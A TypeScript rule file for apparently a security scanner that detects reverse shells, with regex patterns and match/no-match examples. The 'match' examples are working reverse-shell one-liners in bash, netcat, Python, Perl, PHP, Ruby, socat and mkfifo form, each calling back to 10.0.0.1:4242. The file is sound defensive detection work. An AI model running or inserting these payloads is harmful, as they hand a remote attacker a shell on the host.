import type { PatternRule } from '../rule.js';

const SH = String.raw`(/usr)?(/s?bin/)?(ba|z|k|da)?sh\b`;

export const REVERSE_SHELL_RULES: readonly PatternRule[] = [
  {
    id: 'patterns/reverse-shell-bash',
    severity: 'high',
    certainty: 0.9,
    message: 'An interactive shell wired to a /dev/tcp or /dev/udp socket: a bash reverse shell.',
    strings: {
      interactive: String.raw`\b(ba|z|k|da)?sh\s{1,4}-[a-z]{0,3}i[a-z]{0,3}\s{1,4}[0-9]?(>&|&>|<>|>)\s{0,4}/dev/(tcp|udp)/`,
      redirect: String.raw`/dev/(tcp|udp)/[^\s/]{1,253}/[0-9]{1,5}\s{0,4}(0>&1|0<&[0-9]{1,3}|<&[0-9]{1,3}\s{0,4}>&[0-9]{1,3})`,
      fd_shell: String.raw`\b(ba|z|k|da)?sh\s{1,2}<&\s?[0-9]{1,4}\s{1,4}>&\s?[0-9]{1,4}`,
    },
    examples: {
      match: [
        'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
        "bash -c 'sh -i 5<> /dev/tcp/10.0.0.1/4242 0<&5 1>&5 2>&5'",
        '0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196',
        'sh -i >& /dev/udp/10.0.0.1/4242 0>&1',
      ],
      notMatch: ['echo > /dev/tcp/localhost/5432 && echo db is up', 'exec 3<>/dev/tcp/example.com/80; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3', 'make 2>&1 | tee build.log'],
    },
  },
  {
    id: 'patterns/reverse-shell-netcat',
    severity: 'high',
    certainty: 0.85,
    message: 'netcat told to run a shell for whoever is on the other end of the connection (nc -e / -c).',
    strings: {
      exec: String.raw`\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s([^\n|;&]{0,80}\s)?-{1,2}(e|c|exec|sh-exec)[\s=]{1,4}["']?(${SH}|cmd(\.exe)?\b|powershell)`,
    },
    examples: {
      match: ['nc -e /bin/sh 10.0.0.1 4242', 'nc 10.0.0.1 4242 -e /bin/bash', 'ncat --exec cmd.exe 10.0.0.1 4242', 'nc.traditional -c bash 10.0.0.1 4242', 'busybox nc 10.0.0.1 4242 -e sh'],
      notMatch: ['nc -zv example.com 443', 'nc -l 8080 > received.bin', 'rsync -av -e ssh src/ host:/dst/', 'func -e /bin/sh'],
    },
  },
  {
    id: 'patterns/reverse-shell-python',
    severity: 'high',
    certainty: 0.9,
    message: "Python that connects a socket and then points the process's stdio at it or spawns a pty: a reverse shell.",
    strings: {
      dup2: String.raw`\.connect\(\s{0,4}\([\x00-\xff]{0,300}\bdup2\(\s{0,4}[a-z_][a-z0-9_]{0,30}\.fileno\(\)`,
      pty: String.raw`\.connect\(\s{0,4}\([\x00-\xff]{0,300}\bpty\.spawn\(`,
    },
    examples: {
      match: [
        `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("sh")'`,
        'import socket, os, pty\ns = socket.socket()\ns.connect(("10.0.0.1", 4242))\n[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn("/bin/bash")\n',
      ],
      notMatch: ['sock.connect((host, port))\nsock.sendall(payload)\n', 'os.dup2(devnull.fileno(), 0)\n'],
    },
  },
  {
    id: 'patterns/reverse-shell-perl',
    severity: 'high',
    certainty: 0.9,
    message: "Perl that connects a socket and duplicates the script's stdio onto it: a reverse shell.",
    strings: {
      open_std: String.raw`sockaddr_in\([^\n]{0,200}open\(\s{0,4}STD(IN|OUT|ERR)\s{0,4},\s{0,4}["'][<>+]{1,3}&`,
      fdopen: String.raw`IO::Socket::INET[^\n]{0,200}STDIN->fdopen\(`,
    },
    examples: {
      match: [
        `perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`,
        `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
      ],
      notMatch: ['open(STDERR, ">&STDOUT") or die "cannot dup: $!";', 'my $addr = sockaddr_in($port, inet_aton($host));'],
    },
  },
  {
    id: 'patterns/reverse-shell-php',
    severity: 'high',
    certainty: 0.9,
    message: 'PHP that opens a socket with fsockopen and runs a shell on the same line: a reverse shell.',
    strings: { fsock: String.raw`fsockopen\([^\n]{0,200}/bin/(ba|z|k|da)?sh\b` },
    examples: {
      match: [`php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`, `$s=fsockopen("10.0.0.1",4242);$p=proc_open("/bin/bash -i", array(0=>$s, 1=>$s, 2=>$s),$pipes);`],
      notMatch: ['$fp = fsockopen("www.example.com", 80, $errno, $errstr, 30);', 'shell_exec("/bin/sh -c true");'],
    },
  },
  {
    id: 'patterns/reverse-shell-ruby',
    severity: 'high',
    certainty: 0.85,
    message: 'Ruby that opens a TCP socket and runs a shell or commands read from it: a reverse shell.',
    strings: { tcp: String.raw`TCPSocket\.(open|new)\([^\n]{0,200}(/bin/(ba|z|k|da)?sh\b|IO\.popen\(|\.read\)|exec\s)` },
    examples: {
      match: [
        `ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
        `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("10.0.0.1","4242");loop{c.gets.chomp!;(IO.popen($_,?r){|io|c.print io.read}) rescue c.puts "x"}'`,
      ],
      notMatch: ['sock = TCPSocket.new("example.com", 80)\nsock.write("GET / HTTP/1.0\\r\\n\\r\\n")'],
    },
  },
  {
    id: 'patterns/reverse-shell-socat',
    severity: 'high',
    certainty: 0.85,
    message: 'socat connecting a shell to a network address: a reverse or bind shell.',
    strings: { exec: String.raw`(?i)\bsocat\s[^\n]{0,160}\b(exec|system):["']?${SH}` },
    examples: {
      match: ["socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242", 'socat TCP:10.0.0.1:4242 EXEC:/bin/sh', 'socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash'],
      notMatch: ['socat TCP-LISTEN:8080,fork TCP:localhost:80', 'socat - UNIX-CONNECT:/var/run/app.sock'],
    },
  },
  {
    id: 'patterns/reverse-shell-mkfifo',
    severity: 'high',
    certainty: 0.85,
    message: 'A named pipe looping a shell through netcat, telnet or openssl: a reverse shell.',
    strings: { fifo: String.raw`\b(mkfifo|mknod)\s[^\n]{0,160}(\|\s{0,2}(nc|ncat|netcat|telnet)\s|openssl\s{1,4}s_client)` },
    examples: {
      match: [
        'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f',
        'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s; rm /tmp/s',
        'mknod /tmp/p p && /bin/sh 0</tmp/p | telnet 10.0.0.1 4242 1>/tmp/p',
      ],
      notMatch: ['mkfifo /tmp/pipe && gzip < /tmp/pipe > out.gz &'],
    },
  },
];
